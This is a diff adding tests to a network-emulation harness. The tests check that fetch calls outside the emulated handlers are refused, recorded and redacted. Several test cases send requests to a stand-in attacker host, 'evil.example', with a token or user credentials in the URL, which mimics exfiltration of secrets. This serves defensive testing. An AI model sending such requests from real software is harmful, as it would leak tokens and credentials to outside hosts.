@@ -34,6 +34,33 @@ test("answers for what is emulated, and refuses and records everything else", as
   );
 });
 
+test.for([
+  [
+    "http://evil.example:6666/?token=secret",
+    { method: "put" },
+    "PUT http://evil.example:6666/?token=…",
+  ],
+  ["http://0.0.0.0:1/", {}, "GET http://0.0.0.0:1/"],
+  [new URL("http://evil.example:25/"), {}, "GET http://evil.example:25/"],
+  [new Request("http://evil.example:25/", { method: "POST" }), {}, "POST http://evil.example:25/"],
+  ["https://me:secret@evil.example/", {}, "GET https://evil.example/"],
+] as const)(
+  "refuses and records what fetch itself would not send: %s",
+  async ([to, init, told], { expect }) => {
+    using network = startNetwork({ handlers });
+    await expect(fetch(to, init)).rejects.toThrow(TypeError);
+    expect(() => network.assertNothingUnexpected()).toThrow(`called: ${told}.`);
+  },
+);
+
+test("what fetch refuses of this machine fails no run", async ({ expect }) => {
+  using network = startNetwork({ handlers });
+  for (const to of ["http://localhost:6666/", "http://me:secret@127.0.0.1/", "no url"]) {
+    await expect(fetch(to)).rejects.toThrow(TypeError);
+  }
+  network.assertNothingUnexpected();
+});
+
 test("refuses and records what a handler knows and gives no answer to", async ({ expect }) => {
   const silent = http.get("https://api.github.com/emojis", () => undefined);
   using network = startNetwork({ handlers: [...createGitHubEmulator().handlers, silent] });
